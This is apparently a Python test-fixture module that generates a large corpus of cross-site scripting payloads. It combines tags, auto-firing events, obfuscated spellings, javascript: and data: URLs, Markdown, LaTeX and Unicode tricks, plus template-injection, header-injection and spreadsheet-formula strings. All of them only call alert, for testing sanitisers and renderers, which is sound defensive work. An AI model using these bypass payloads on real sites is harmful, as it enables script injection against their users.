"""Hundreds of ways to smuggle a script into a text, built from their parts: what runs, how it hides, where it sits.

``PAYLOADS`` are built of tags x events x ways of writing, addresses x ways of writing, Markdown, formulas and tricks of
Unicode, each different from all others; with ``HOSTILE``, which were written by hand, they go through every field into
every outlet. Whatever runs calls ``alert``.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import quote

CALLS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.alert(1)", "(0,alert)(1)", "eval('ale'+'rt(1)')")

# Each tag with an attribute that makes it fire by itself, and the event that it fires.
_TAGS = (
    ("img", "src=x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onloadstart"),
    ("input", "autofocus", "onfocus"),
    ("input", "type=image src=x", "onerror"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"),
    ("style", "", "onload"),
    ("marquee", "", "onstart"),
    ("div", "contenteditable tabindex=0 autofocus", "onfocus"),
    ("a", "href=# id=x tabindex=0 autofocus", "onfocusin"),
    ("p", "style=animation:x", "onanimationend"),
    ("math", "tabindex=0 autofocus", "onfocus"),
    ("xss", "id=y tabindex=0 autofocus", "onfocus"),
)
_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</p>", "</math>", "]]>", "</script>", "</code></pre>")


def _written(tag: str, told: str, event: str, call: str) -> Iterator[str]:
    """One element in the ways in which parsers have been fooled."""
    yield f"<{tag} {told} {event}={call}>"
    yield f"<{tag.upper()} {told.upper()} {event.title()}='{call}'>"
    yield f"<{tag}/{told.replace(' ', '/')}/{event}={call}//"
    yield f'<{tag}\n{told}\t{event}\r\n=\x0c"{call}">x</{tag}>'
    yield f"<{tag} {told} {event}={''.join(f'&#{ord(letter)};' for letter in call)}>"
    yield f"<{tag} {told} {event}=&#x{ord(call[0]):x}{call[1:]} x"
    yield f"&lt;{tag} {told} {event}={call}&gt;"
    yield f"<<{tag} {told} {event}={call}>>"


def _elements() -> Iterator[str]:
    for n, (tag, told, event) in enumerate(_TAGS):
        call = CALLS[n % len(CALLS)]
        for m, written in enumerate(_written(tag, told, event, call)):
            yield _BREAKS[(n + m) % len(_BREAKS)] + written


def _scripts() -> Iterator[str]:
    for n, call in enumerate(CALLS):
        yield f"<script>{call}</script>"
        yield f"<ScRiPt\x20type=module>{call}</sCrIpT >"
        yield f"<script>{call}//"
        yield f"{_BREAKS[n]}<script>{call}</script>"
        yield f"<scr\x00ipt>{call}</scr\x00ipt>"
        yield f"<svg><script>{call}</script></svg>"
        yield f"<script src=data:text/javascript,{quote(call)}></script>"
        yield f"<iframe srcdoc='<script>{call}</script>'></iframe>"
        yield f"<math><annotation-xml encoding=text/html><script>{call}</script></annotation-xml></math>"
        yield f"<svg><foreignObject><body onload={call}></foreignObject></svg>"
        yield f"<noscript><p title='</noscript><script>{call}</script>'></noscript>"
        yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>"


def _addresses() -> Iterator[str]:
    """Addresses that run, in the ways in which a scheme may be hidden."""
    for call in CALLS[:3]:
        plain = f"javascript:{call}"
        data = base64.b64encode(f"<script>{call}</script>".encode()).decode()
        yield plain
        yield f"JaVaScRiPt:{call}"
        yield f"java\tscript:{call}"
        yield f"java\nscript:{call}"
        yield f"\x01javascript:{call}"
        yield f"\u00a0javascript:{call}"
        yield "".join(f"&#{ord(letter)};" for letter in plain)
        yield "".join(f"&#x{ord(letter):x}" for letter in plain)
        yield plain.replace(":", "&colon;")
        yield plain.replace("j", "%6a", 1)
        yield f"javascript://evil.example/%0a{call}"
        yield f"feed:javascript:{call}"
        yield f"view-source:javascript:{call}"
        yield f"vbscript:{call}"
        yield f"data:text/html,<script>{call}</script>"
        yield f"data:text/html;base64,{data}"
        yield f"data:image/svg+xml;base64,{data}"
        yield f"blob:http://127.0.0.1/{call}"


def _markdown() -> Iterator[str]:
    """The addresses in every place of Markdown that holds one, and elements in every kind of block."""
    for n, address in enumerate(_addresses()):
        yield (f"[x]({address})", f"[x](<{address}>)", f"[x]: {address}\n\n[x]")[n % 3]
        yield (f"<{address}>", f"![x]({address})", f"[![x]({address})]({address})")[n % 3]
        yield (f'<a href="{address}">x</a>', f"<form action='{address}'><button>x", f"<base href={address}>")[n % 3]
    element = "<img src=x onerror=alert(1)>"
    for before, after in (
        ("```", "\n```"), ("```html\n", "\n```"), ("~~~\n", ""), ("`", "`"), ("``` \"onload=alert(1) x=\"\n", "\n```"),
        ("    ", ""), ("> ", ""), ("> > ", ""), ("- ", ""), ("1. ", ""), ("# ", ""), ("", "\n==="), ("", "\n---"),
        ("**", "**"), ("*", "*"), ("~~", "~~"), ("[", "](https://e.example/)"), ('[x](https://e.example/ "', '")'),
        ("[x](https://e.example/", ")"), ("![", "](https://e.example/x.png)"), ("<https://e.example/", ">"),
        ("\\", ""), ("<!--", "-->"), ("<div>\n\n", "\n\n</div>"), ("<pre><code>", "</code></pre>"),
        ("| a |\n|---|\n| ", " |"),
        ("@", ""), ("@alice", ""), ("2510.10001", ""), ("arXiv:2510.10001v", ""),
        ("https://e.example/?q=", ""),
    ):  # fmt: skip
        yield f"{before}{element}{after}"
    for tail in (
        '"onmouseover="alert(1)',
        "'onfocus='alert(1)'autofocus='",
        "<svg/onload=alert(1)>",
        "`onload=alert(1)`",
    ):
        yield f"https://e.example/{tail}"
        yield f"[x](https://e.example/{tail})"
        yield f"<https://e.example/{tail}>"
        yield f"https://user:{tail}@e.example/"
        yield f"@alice{tail}"
        yield f"mailto:a@b.example{tail}"


def _formulas() -> Iterator[str]:
    """Elements and addresses inside formulas, as text, as names, as what a parser may take for an attribute."""
    inner = (
        "<script>alert(1)</script>", "</mtext></math><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;", '" onmouseover="alert(1)', "<!--</math>--><script>alert(1)</script>",
    )  # fmt: skip
    around = (
        r"\text{%s}", r"\mbox{%s}", r"\operatorname{%s}", r"\textcolor{%s}{x}", r"\color{%s}x", r"\href{%s}{x}",
        r"\mathrm{%s}", r"x_{%s}", r"\frac{%s}{%s}", r"\begin{array}{%s}a\end{array}", r"\style{%s}{x}",
        r"\class{%s}{x}",
        r"\sqrt[%s]{x}", r"\hspace{%s}", r"\tag{%s}x", r"\left%s x\right.", "%s",
    )  # fmt: skip
    delimiters = (("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("$$\n", "\n$$"))
    for n, command in enumerate(around):
        for m, held in enumerate(inner):
            before, after = delimiters[(n + m) % len(delimiters)]
            yield before + command.replace("%s", held) + after
    for n, address in enumerate(_addresses()):
        yield rf"$\href{{{address}}}{{x}}$" if n % 2 else rf"\href{{{address}}}{{x}}"


def _unicode() -> Iterator[str]:
    """Signs that become brackets and quotes when they are folded, and unseen ones between letters."""
    look_alike = {
        "<": "\uff1c",
        ">": "\uff1e",
        '"': "\uff02",
        "'": "\uff07",
        "(": "\uff08",
        ":": "\uff1a",
        "/": "\u2215",
    }
    plain = "<img src=x onerror=alert(1)>"
    yield "".join(look_alike.get(letter, letter) for letter in plain)
    yield plain.replace("<", "\ufe64").replace(">", "\ufe65")
    yield plain.replace("<", "\u2039").replace(">", "\u203a")
    yield plain.replace("i", "\u0131").replace("s", "\u017f")
    yield "<\u017fcript>alert(1)</\u017fcript>"
    for unseen in "\u200b\u00ad\u2060\ufeff\u202e\u2066\u180e\u0000\u000b\u0085":
        yield f"<img{unseen} src=x onerror{unseen}=alert(1)>"
        yield f"<scr{unseen}ipt>alert(1)</script>"
        yield f"[x](java{unseen}script:alert(1))"
    yield "\ud83d<script>alert(1)</script>\ude00"
    yield "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "%3Cscript%3Ealert(1)%3C/script%3E"
    yield "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"
    yield "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"
    yield '{"@context":"</script><script>alert(1)</script>"}'
    yield "{{constructor.constructor('alert(1)')()}}{% debug %}"
    yield '=HYPERLINK("javascript:alert(1)","x")'
    yield "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"


PAYLOADS: list[str] = list(dict.fromkeys([*_elements(), *_scripts(), *_markdown(), *_formulas(), *_unicode()]))
